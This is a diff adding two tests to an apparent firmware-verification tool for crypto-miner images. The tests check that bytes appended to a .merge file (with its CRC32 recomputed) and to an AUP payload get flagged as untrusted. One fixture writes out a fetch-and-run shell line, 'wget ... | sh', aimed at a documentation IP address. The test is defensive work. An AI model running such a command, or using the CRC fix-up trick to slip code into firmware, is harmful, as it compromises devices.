@@ -104,3 +104,27 @@ def test_braiins_sysupgrade_tar_xz_with_fit_kernel_and_squashfs_root(kit: Kit, t
     assert "sysupgrade-am1-s9/kernel/kernel-1" in nodes
     assert nodes["sysupgrade-am1-s9/root"].format == "squashfs"
     assert "sysupgrade-am1-s9/root/usr/bin/bmminer" in nodes
+
+
+def test_bytes_no_merge_item_holds_are_found_though_the_crc_was_fixed_up(kit: Kit, trust: TrustStore,
+                                                                          manifest: Manifest, tmp_path: Path) -> None:
+    """A merge file's CRC32 covers every byte, but anyone can recompute it: a script after the
+    last item (CRC redone) left the file TRUSTED, since only the items were read."""
+    import struct
+    import zlib
+
+    good = b.merge(tmp_path / "s21.merge", [("CVITEK-board", kit["bmu"])])
+    data = bytearray(good.read_bytes() + b"#!/bin/sh\nwget -q -O- http://203.0.113.9/x | sh\n")
+    data[24:28] = b"\0\0\0\0"
+    struct.pack_into("<I", data, 24, zlib.crc32(bytes(data)) & 0xFFFFFFFF)
+    (tmp_path / "extra.merge").write_bytes(bytes(data))
+    verdict, found = codes(tmp_path / "extra.merge", trust, manifest)
+    assert verdict is Verdict.UNTRUSTED, found
+    assert "bytes no merge item holds: may hold code: a script (#!/bin/sh)" in found["FIRMWARE_UNSIGNED_CONTENT"]
+
+
+def test_bytes_after_an_aup_payload_are_named(kit: Kit, tmp_path: Path) -> None:
+    path = tmp_path / "extra.aup"
+    path.write_bytes(kit["aup"].read_bytes() + b"pool=stratum+tcp://203.0.113.9:3333\n")
+    found = {f.code: f.detail for f in inspect_file(path).findings}
+    assert "bytes after the AUP payload" in found["FIRMWARE_UNSIGNED_DATA"]
